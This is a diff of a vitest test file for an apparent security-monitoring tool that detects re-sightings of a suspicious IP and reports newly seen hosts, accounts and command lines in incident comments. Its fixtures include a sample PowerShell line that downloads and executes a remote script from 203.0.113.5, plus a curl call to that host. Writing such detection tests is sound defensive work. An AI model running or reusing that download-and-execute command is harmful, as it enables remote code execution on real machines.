@@ -1,17 +1,20 @@
 import { describe, expect, it } from 'vitest';
 import { hasNewEntities, resightedIncident, resightingComment, resightingNews } from '../../src/sentinel/resighting.js';
-import type { PriorReport } from '../../src/sentinel/publishTypes.js';
-import { finding } from './sentinelFixtures.js';
+import type { SeenRecord } from '../../src/state/stateStore.js';
+import { entitiesFromText } from '../../src/entities/entityLists.js';
+import { finding, type EntityTexts } from './sentinelFixtures.js';
 
-const prior: PriorReport = {
+const prior: SeenRecord = {
+  ip: '203.0.113.5',
   incidentId: 'i1',
   generation: 1,
-  hosts: ['WEB01.contoso.com'],
-  accounts: ['contoso\\alice'],
+  entities: entitiesFromText({ hosts: ['WEB01.contoso.com'], accounts: ['contoso\\alice'] }),
   commandLines: ['powershell -c iwr http://203.0.113.5/a.ps1 | iex'],
   firstReported: new Date('2024-05-01T10:05:00Z'),
+  lastReported: new Date('2024-05-01T10:05:00Z'),
   lastSeen: new Date('2024-05-01T10:00:00Z'),
 };
+const newsOf = (entities: EntityTexts, commandLines: string[] = []) => ({ entities: entitiesFromText(entities), commandLines, later: false });
 const policy = { highSeverityHostCount: 3, indicatorCidrs: [] };
 
 describe('resightingNews', () => {
@@ -20,25 +23,52 @@ describe('resightingNews', () => {
       finding('203.0.113.5', { hosts: ['web01.CONTOSO.com', 'db02'], accounts: ['CONTOSO\\alice', 'CONTOSO\\bob'], commandLines: [...prior.commandLines, 'curl 203.0.113.5'] }),
       prior,
     );
-    expect(news).toEqual({ hosts: ['db02'], accounts: ['CONTOSO\\bob'], commandLines: ['curl 203.0.113.5'] });
+    expect(news).toEqual({ entities: entitiesFromText({ hosts: ['db02'], accounts: ['CONTOSO\\bob'] }), commandLines: ['curl 203.0.113.5'], later: false });
   });
 
   it('counts only new hosts and accounts as new entities, not new command lines', () => {
-    expect(hasNewEntities({ hosts: ['db02'], accounts: [], commandLines: [] })).toBe(true);
-    expect(hasNewEntities({ hosts: [], accounts: ['CONTOSO\\bob'], commandLines: [] })).toBe(true);
-    expect(hasNewEntities({ hosts: [], accounts: [], commandLines: ['curl 203.0.113.5'] })).toBe(false);
+    expect(hasNewEntities(newsOf({ hosts: ['db02'] }))).toBe(true);
+    expect(hasNewEntities(newsOf({ accounts: ['CONTOSO\\bob'] }))).toBe(true);
+    expect(hasNewEntities(newsOf({}, ['curl 203.0.113.5']))).toBe(false);
+  });
+});
+
+describe('resightingNews against a seen record', () => {
+  const a = finding('45.9.148.3', {
+    hosts: ['ws1'],
+    accounts: ['CONTOSO\\alice'],
+    commandLines: ['one', 'two'],
+    lastSeen: new Date('2026-11-01T11:00:00Z'),
+  });
+  const seen = (entities: EntityTexts, lastSeen: string): SeenRecord => ({
+    ...prior,
+    entities: entitiesFromText(entities),
+    commandLines: ['one', 'two'],
+    lastSeen: new Date(lastSeen),
+  });
+
+  it('reports only hosts, accounts and command lines not reported before, hosts case-insensitively', () => {
+    const news = resightingNews(
+      finding('45.9.148.3', { hosts: ['WS1', 'ws3'], accounts: ['CONTOSO\\alice'], commandLines: ['two', 'five'], lastSeen: a.lastSeen }),
+      seen({ hosts: ['ws1'], accounts: ['contoso\\alice'] }, '2026-11-01T11:00:00Z'),
+    );
+    expect(news).toEqual({ entities: entitiesFromText({ hosts: ['ws3'], accounts: [] }), commandLines: ['five'], later: false });
+  });
+
+  it('notices a later sighting even with nothing else new', () => {
+    expect(resightingNews(a, seen({ hosts: ['ws1'], accounts: ['CONTOSO\\alice'] }, '2026-11-01T10:00:00Z')).later).toBe(true);
   });
 });
 
 describe('resightingComment', () => {
   it('names what is new and is the same text for the same input', () => {
     const f = finding('203.0.113.5', { hosts: ['db02'], lastSeen: new Date('2024-05-02T00:00:00Z') });
-    const text = resightingComment(f, { hosts: ['db02'], accounts: [], commandLines: ['a|b'] }, 'Re-sighting:');
+    const text = resightingComment(f, newsOf({ hosts: ['db02'] }, ['a|b']), 'Re-sighting:');
     expect(text).toContain('203.0.113.5 was seen again, last at 2024-05-02T00:00:00.000Z UTC');
     expect(text).toContain('New hosts (1): db02');
     expect(text).toContain('1. a\\|b');
     expect(text).not.toContain('New accounts');
-    expect(resightingComment(f, { hosts: ['db02'], accounts: [], commandLines: ['a|b'] }, 'Re-sighting:')).toBe(text);
+    expect(resightingComment(f, newsOf({ hosts: ['db02'] }, ['a|b']), 'Re-sighting:')).toBe(text);
   });
 });
 
